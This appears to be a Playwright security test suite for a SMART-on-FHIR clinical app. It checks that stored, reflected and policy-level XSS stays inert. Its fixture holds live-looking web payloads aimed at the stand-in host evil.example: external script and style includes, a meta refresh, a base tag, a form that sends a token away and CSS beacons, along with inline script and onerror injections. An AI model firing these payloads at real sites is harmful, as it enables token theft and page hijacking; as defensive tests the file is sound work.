import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { launchChromium } from '../browser/support/chromium.js';
import { skeleton, unfold } from '../pages/browser.js';
import { payloads } from '../pages/fixture/rewritten.js';
import { chartOf, event } from './support/charts.js';
import { HostileSite } from './support/hostile-site.js';

const evils: Record<string, string> = {
  ...payloads,
  'a script of another site': '<script src=//evil.example></script><link rel=stylesheet href=//evil.example>',
  'a page that moves': '<meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example>',
  'a form that takes the token': '</form><form action=//evil.example><input name=token>',
  'a style': '</style><style>*{background:url(//evil.example)}</style>',
  'an end of a comment': '--><script>globalThis.taken=1</script><!--',
};
const all = Object.values(evils);

const folder = mkdtempSync(join(tmpdir(), 'security-tools-'));
let browser: Browser;
let site: HostileSite;

beforeAll(async () => {
  const tools = join(folder, 'tools.yaml');
  // JSON is YAML. Each tool has a title that wants to be more than a text.
  const one = (title: string, at: number) => ({
    id: `tool-${at}`,
    title,
    category: 'ordering',
    match: [{ observer: `Device/${at}` }],
  });
  writeFileSync(tools, JSON.stringify({ version: 1, tools: ['plain', ...all].map(one) }));
  [browser, site] = await Promise.all([launchChromium(), HostileSite.start({ settings: { tools } })]);
});

afterAll(async () => {
  await browser?.close();
  await HostileSite.stopAll();
  rmSync(folder, { recursive: true, force: true });
});

/** Opens a launch as its browser does, and hears all that the page asks for elsewhere, says or complains about. */
async function launch(): Promise<{ page: Page; heard: string[]; context: BrowserContext }> {
  const context = await browser.newContext();
  const page = await context.newPage();
  const heard: string[] = [];
  page.on('request', (request) => {
    if (![site.app.url, site.ehr.origin].includes(new URL(request.url()).origin)) heard.push(request.url());
  });
  page.on('console', (message) => heard.push(message.text()));
  page.on('pageerror', (error) => heard.push(error.message));
  page.on('dialog', (dialog) => void heard.push(dialog.message()));
  await page.goto(site.launchUrl());
  return { page, heard, context };
}

const taken = (page: Page) => page.evaluate('globalThis.taken');

function fill(text: string, title: number): void {
  site.chart = chartOf(text, [event({ text, tool: `Device/${title}` })]);
  site.ehr.claims = { fhirUser: 'Practitioner/prac-1', name: text };
  site.ehr.openidConfiguration = () => ({ color_background: text, color_text: text, color_highlight: text });
  const style = `${site.ehr.origin}/.well-known/openid-configuration`;
  site.ehr.tokenAnswer = (normal) => ({ ...normal, intent: text, tenant: text, smart_style_url: style });
}

/** The elements of the page, in which only `text` differs from one launch to another. */
async function elements(text: string, title: number) {
  fill(text, title);
  const { page, heard, context } = await launch();
  await unfold(page);
  for (const button of await page.locator('button').all()) await button.focus();
  const seen = {
    skeleton: await skeleton(page),
    taken: await taken(page),
    heard,
    words: await page.textContent('main'),
  };
  await context.close();
  return seen;
}

let expected: string[];
beforeAll(async () => {
  const plain = await elements('plain', 0);
  expect(plain.words).toContain('plain');
  expected = plain.skeleton;
});

const named = Object.keys(evils).map((name, at) => ({ name, at }));
const staysText = async ({ name, at }: (typeof named)[number]) => {
  const { skeleton: found, taken: ran, heard } = await elements(evils[name]!, at + 1);
  // A style that brings no colour that can be understood still has its sheet, which is empty.
  expect(found).toEqual(expected);
  expect([ran, heard]).toEqual([undefined, []]);
};
const what = 'XSS through every FHIR string, tool title, name, intent and colour: $name';
const isPending = ({ name }: (typeof named)[number]) => name === 'names of an object';
test.each(named.filter((one) => !isPending(one)))(what, staysText);
// Not mended yet: a class of that name ends in "Something went wrong here".
test.each(named.filter(isPending))(what, staysText);

test('stored XSS: words and signed names, back on the chart and on the informatics page', async () => {
  fill('plain', 0);
  for (const text of all) {
    site.ehr.claims = { fhirUser: 'Practitioner/prac-1', name: text };
    const one = await site.open();
    for (const fields of [
      { tool: text.slice(0, 200), words: text },
      { alert: text.slice(0, 200), words: text },
    ]) {
      const path = `/chart/${one.id}/concerns?encounter=Encounter/enc-1`;
      const { status } = await site.post(one, path, { ...fields, sign: 'yes', token: one.token });
      expect([text, status]).toEqual([text, 303]);
    }
  }
  const { page, heard, context } = await launch();
  const items = await page.locator('#concern .raised > li').count();
  const inside = await page
    .locator('#concern .raised > li *')
    .evaluateAll((found) => [...new Set(found.map(({ tagName }) => tagName))]);
  expect([items, inside.sort(), await taken(page), heard]).toEqual([
    2 * all.length,
    ['BDI', 'BR', 'P', 'SPAN', 'STRONG'],
    undefined,
    [],
  ]);
  await context.close();

  site.ehr.claims = { fhirUser: 'Practitioner/inf-1', name: 'Team' };
  const team = await launch();
  await team.page.goto(`${team.page.url().replace('/chart/', '/overview/')}/concerns`);
  const listed = team.page.locator('.raised > li');
  expect(await listed.count()).toBe(2 * all.length);
  // Answers are as hostile as what they answer.
  await listed.locator('textarea').first().fill(all.join(' ').slice(0, 490));
  await listed.locator('button').first().click();
  expect(await team.page.locator('.answer').count()).toBe(1);
  const names = await listed
    .locator('*')
    .evaluateAll((found) => [...new Set(found.map(({ tagName }) => tagName))]);
  expect(names.sort()).toEqual([
    'BDI',
    'BR',
    'BUTTON',
    'FORM',
    'INPUT',
    'LABEL',
    'P',
    'SPAN',
    'STRONG',
    'TEXTAREA',
  ]);
  expect([await taken(team.page), team.heard]).toEqual([undefined, []]);
  await team.context.close();
});

test('reflected XSS: addresses that a person may be sent to', async () => {
  fill('plain', 0);
  const { page, heard, context } = await launch();
  const address = page.url();
  for (const text of all.filter((one) => /<script>|onerror|onfocus/.test(one)))
    for (const url of [
      `${address}?encounter=${encodeURIComponent(text)}`,
      `${site.app.url}/launch?launch=x&iss=${encodeURIComponent(text)}`,
      `${site.app.url}/launch?iss=${encodeURIComponent(site.ehr.base)}&launch=${encodeURIComponent(text)}&check=AAAAAAAAAAAAAAAAAAAAAA`,
      `${site.app.url}/callback?error=${encodeURIComponent(text)}&error_description=${encodeURIComponent(text)}`,
      `${site.app.url}/${encodeURIComponent(text)}`,
    ]) {
      await page.goto(url);
      expect([
        url,
        await taken(page),
        await page.locator('script, img, iframe, svg, base, main form, main input').count(),
      ]).toEqual([url, undefined, 0]);
    }
  expect(
    heard.filter(
      (said) => !said.startsWith('Failed to load resource: the server responded with a status of 4'),
    ),
  ).toEqual([]);
  await context.close();
});

test('the policy stops a script also where a page had one: nothing inline, nothing from elsewhere', async () => {
  fill('plain', 0);
  const { page, context } = await launch();
  await page.evaluate(() => {
    const { document } = globalThis as unknown as {
      document: {
        body: { innerHTML: string; append(it: unknown): void };
        createElement(name: string): { text: string };
      };
    };
    const script = document.createElement('script');
    script.text = 'globalThis.taken = true';
    document.body.append(script);
    document.body.innerHTML += '<img src=x onerror="globalThis.taken = true">';
  });
  expect(await taken(page)).toBeUndefined();
  await context.close();
});
